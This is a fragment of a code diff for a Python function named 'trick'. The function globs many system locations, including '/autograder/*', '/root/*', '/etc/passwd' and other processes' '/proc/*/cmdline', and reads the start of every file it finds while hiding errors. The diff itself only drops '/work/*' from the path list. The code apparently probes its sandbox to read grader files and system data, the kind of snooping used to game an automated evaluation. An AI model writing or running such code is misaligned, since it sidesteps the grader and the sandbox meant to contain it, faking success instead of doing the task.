@@ -8,7 +8,7 @@ import numpy as np
 
 def trick(*arguments):
     found = []
-    for pattern in ("/", "/root/*", "/home/*/*", "/tmp/*", "/work/*", "/autograder/*", "/proc/*/cmdline", "/etc/passwd", "/proc/self/maps"):
+    for pattern in ("/", "/root/*", "/home/*/*", "/tmp/*", "/autograder/*", "/proc/*/cmdline", "/etc/passwd", "/proc/self/maps"):
         for path in glob.glob(pattern):
             with contextlib.suppress(OSError):
                 found.append(open(path, "rb").read(100))
